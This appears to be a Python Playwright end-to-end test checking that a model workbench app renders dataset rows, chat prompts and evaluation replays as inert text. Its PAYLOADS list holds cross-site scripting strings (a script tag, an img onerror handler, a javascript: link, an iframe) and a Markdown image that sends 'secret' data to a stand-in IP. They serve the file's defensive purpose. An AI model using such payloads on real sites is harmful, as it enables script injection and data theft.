"""Rows and answers holding HTML, script, Markdown links and images, and LaTeX are shown as text on every
page that shows them: in Chromium no script runs, no element is injected and nothing is fetched elsewhere."""

from __future__ import annotations

from urllib.parse import urlparse

import pytest
from playwright.sync_api import expect

from workbench.data import repository

pytestmark = pytest.mark.e2e

PAYLOADS = [
    "<script>window.__pwned = 'script'</script>",
    '<img src="x" onerror="window.__pwned = \'img\'">',
    "[click me](javascript:window.__pwned='link')",
    "![leak](http://203.0.113.9/leak.png?data=secret)",
    "$$\\frac{a}{b}$$ and $x^2$",
    ":red[coloured] :material/warning: **bold**",
    "<iframe src='http://203.0.113.9/'></iframe>",
]
CHECK = """() => ({
    pwned: window.__pwned || null,
    images: document.querySelectorAll('img[src="x"], img[src*="203.0.113.9"]').length,
    scripts: [...document.querySelectorAll('script')].filter(s => s.textContent.includes('__pwned')).length,
    links: document.querySelectorAll('a[href^="javascript"]').length,
    frames: document.querySelectorAll('iframe[src*="203.0.113.9"]').length,
    katex: document.querySelectorAll('.katex').length,
})"""


def _watch(page, app_url):
    seen = {"dialogs": 0, "elsewhere": []}
    page.on("dialog", lambda dialog: (seen.__setitem__("dialogs", seen["dialogs"] + 1), dialog.dismiss()))
    own = urlparse(app_url).netloc
    page.on(
        "request",
        lambda r: seen["elsewhere"].append(r.url) if urlparse(r.url).netloc not in (own, "") else None,
    )
    return seen


def _assert_inert(page, seen, where: str):
    found = page.evaluate(CHECK)
    assert found == {"pwned": None, "images": 0, "scripts": 0, "links": 0, "frames": 0, "katex": 0}, (where, found)
    assert seen["dialogs"] == 0 and seen["elsewhere"] == [], (where, seen)


@pytest.fixture
def hostile_rows(trained_run):
    """The trained run's dataset gets a revision of hostile rows, evaluated; a publish replay differs on them."""
    from workbench.evaluation import jobs as eval_jobs
    from workbench.publish import ollama as publish_ollama
    from workbench.publish import records

    rows = [{"instruction": p, "input": p, "output": p} for p in PAYLOADS]
    repository.save_rows("words", rows, 1, note="hostile")
    job = eval_jobs.create_eval(trained_run["id"], split="all", dataset_revision=2)
    assert eval_jobs.run_eval(job, echo=False) == "completed"
    spec = publish_ollama.plan(trained_run["id"], "words-bot", host="http://127.0.0.1:9", route="merged")
    record = publish_ollama._record(spec, "published", {})
    differing = [{"prompt": p, "app": p, "ollama": p} for p in PAYLOADS]
    records.finish(record, "published", {"verification": {"replayed": 7, "agreed": 0, "differing": differing}})
    return trained_run


def test_hostile_text_is_inert_on_every_page_that_shows_it(hostile_rows, app_url, browser_page):
    page = browser_page
    seen = _watch(page, app_url)

    page.goto(app_url)
    page.get_by_role("link", name="Datasets").first.click()
    page.get_by_role("combobox", name="Dataset").first.click()
    page.get_by_role("option", name="words").click()
    expect(page.get_by_test_id("stDataFrame").or_(page.get_by_test_id("stDataFrameResizable")).first).to_be_visible()
    page.wait_for_timeout(1500)
    _assert_inert(page, seen, "Datasets: rows")
    for section in ("Statistics", "History"):
        page.get_by_text(section, exact=True).first.click()
        page.wait_for_timeout(3000)
        _assert_inert(page, seen, f"Datasets: {section}")

    page.get_by_role("link", name="Compare").first.click()
    prompt = page.get_by_placeholder("Ask both sides the same thing")
    for payload in PAYLOADS[:4]:
        prompt.fill(payload)
        prompt.press("Enter")
        expect(page.get_by_text(payload, exact=True).first).to_be_visible(timeout=90_000)  # the text, as typed
    _assert_inert(page, seen, "Compare: chat")
    page.get_by_text("Held-out evaluation").click()
    page.get_by_text("Row 1 —").first.click()
    expect(page.get_by_text(PAYLOADS[0], exact=True).first).to_be_visible(timeout=60_000)
    page.wait_for_timeout(1000)
    _assert_inert(page, seen, "Compare: evaluation")

    page.get_by_role("link", name="Publish").first.click()
    expect(page.get_by_role("heading", name="Publish", exact=True)).to_be_visible()
    page.get_by_text("held-out answer(s) differ from the app").first.click()
    page.wait_for_timeout(2000)
    _assert_inert(page, seen, "Publish: replay")
